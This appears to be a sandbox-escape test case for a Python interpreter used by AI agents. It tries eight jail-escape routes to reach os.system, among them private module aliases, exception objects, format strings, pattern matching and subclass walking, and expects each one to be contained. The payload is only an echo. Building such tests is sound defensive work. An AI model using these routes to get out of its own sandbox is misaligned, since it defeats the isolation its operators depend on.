# escape: 427
# policy-wall: optional; a child is a process of its own, and the wall has none
# technique: modules kept by private names, and objects handed over by exceptions, patterns and formats, down to os.system
# family: globals
# goal: exec
# expect: contained
# first-seen: smolagents CVE-2025-5120; pyjail folklore
import operator, random, string, sys
def by_alias(): return random._os.system('echo ESCAPED: alias')
def by_attrgetter(): return operator.attrgetter('_os.system')(random)('echo ESCAPED: attrgetter')
def by_exception():
    try: random._os.nobody
    except AttributeError as error: return error.obj.system('echo ESCAPED: AttributeError.obj')
def by_formatter(): return string.Formatter().get_field('0._os.system', (random,), {})[0]('echo ESCAPED: Formatter')
def by_match():
    match random:
        case object(_os=object(system=f)): return f('echo ESCAPED: match')
def by_modules(): return sys.modules['posix'].system('echo ESCAPED: sys.modules')
def by_self(): return sys.modules['posix'].getcwd.__self__.system('echo ESCAPED: __self__')
def by_subclass():
    for c in object.__subclasses__():
        if c.__name__ == '_wrap_close': return sys.modules[c.__module__].system('echo ESCAPED: subclass')
for attempt in (by_alias, by_attrgetter, by_exception, by_formatter, by_match, by_modules, by_self, by_subclass):
    try: status = attempt()
    except Exception as error: print(attempt.__name__, repr(error)[:80])
    else: print('ESCAPED:', attempt.__name__, 'ended with status', status)
